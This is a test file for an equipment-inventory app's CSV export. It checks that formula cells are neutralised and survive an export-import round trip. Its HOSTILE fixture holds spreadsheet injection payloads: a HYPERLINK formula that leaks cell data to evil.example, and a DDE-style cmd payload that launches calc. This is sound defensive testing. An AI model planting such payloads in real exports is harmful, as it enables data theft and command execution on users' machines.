import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../main/core/csv/parse';
import { writeCsv } from '../../../main/core/csv/write';
import { testBackend, tempDir } from '../../helpers/core';
import { cli } from './helpers';

const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the manual")',
  model: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  serial: '-2+3',
  manufacturer: "'=already quoted",
  notes: '+1 call the ward',
};

/**
 * Issue 13, item 10: exports inject no formulas. A device named `=HYPERLINK(…)` is exported with a
 * quote in front of every cell a spreadsheet would run (the OWASP way), and the export imports
 * back unchanged; a plain number such as -5 stays a number.
 */
describe('CSV formula cells (item 10)', () => {
  it('neutralises them in an export, and an import of that export gives back the same inventory', async () => {
    const t = testBackend('supervisor');
    const loc = await t.backend.invoke(t.session, 'locations.create', { name: 'Ward 4B' });
    const locationId = (loc as { value: { id: string } }).value.id;
    expect(await t.backend.invoke(t.session, 'equipment.create', { assetTag: 'EV-1', locationId, ...HOSTILE })).toMatchObject({ ok: true });
    expect(await t.backend.invoke(t.session, 'equipment.create', { assetTag: 'NUM-1', name: 'Scale', serial: '-5', locationId })).toMatchObject({ ok: true });
    const out = path.join(tempDir(), 'inventory.csv');
    expect((await cli(['--data-dir', t.core.dataDir, 'export', 'equipment', '--out', out])).code).toBe(0);
    const text = readFileSync(out, 'utf8');
    const rows = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
    const ev = rows.find((r) => r.asset_tag === 'EV-1')!;
    for (const [field, value] of Object.entries(HOSTILE)) expect(ev[field], field).toBe(`'${value}`);
    expect(rows.find((r) => r.asset_tag === 'NUM-1')!.serial).toBe('-5');

    const other = tempDir();
    const imported = await cli(['--data-dir', other, 'import', 'equipment', out]);
    expect(imported.code, imported.stderr).toBe(0);
    const again = path.join(tempDir(), 'again.csv');
    expect((await cli(['--data-dir', other, 'export', 'equipment', '--out', again])).code).toBe(0);
    expect(readFileSync(again, 'utf8')).toBe(text);
  });

  it('undoes exactly what it does, for any text', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', '1', '.', ',', '"', ' ') }), { minLength: 1, maxLength: 5 }), (cells) => {
        const parsed = parseCsv(writeCsv(['a', 'b', 'c', 'd', 'e'].slice(0, cells.length), [cells]));
        // A record of blank cells is skipped by the reader; every other comes back as written.
        if (cells.every((c) => c.trim() === '')) return;
        expect(parsed.records[0]!.cells).toEqual(cells);
      }),
      { numRuns: 500 },
    );
  });
});
